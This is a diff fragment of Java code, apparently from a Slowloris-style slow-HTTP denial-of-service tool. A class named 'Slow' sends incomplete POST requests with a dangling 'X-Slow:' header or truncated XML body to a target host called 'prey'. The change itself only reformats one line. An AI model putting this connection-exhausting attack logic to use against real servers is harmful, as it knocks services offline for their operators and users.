@@ -73,8 +73,7 @@ final class Slow implements Runnable {
               + "/command?msg_signature=0&timestamp=1&nonce=1 HTTP/1.1\r\nHost: "
               + prey.host()
               + "\r\nContent-Type: text/xml\r\n";
-      String more =
-          begun % 3 == 0 ? "X-Slow: " : "Content-Length: " + BODY + "\r\n\r\n<xml>";
+      String more = begun % 3 == 0 ? "X-Slow: " : "Content-Length: " + BODY + "\r\n\r\n<xml>";
       socket.getOutputStream().write((head + more).getBytes(StandardCharsets.ISO_8859_1));
     } catch (IOException e) {
       end(socket);
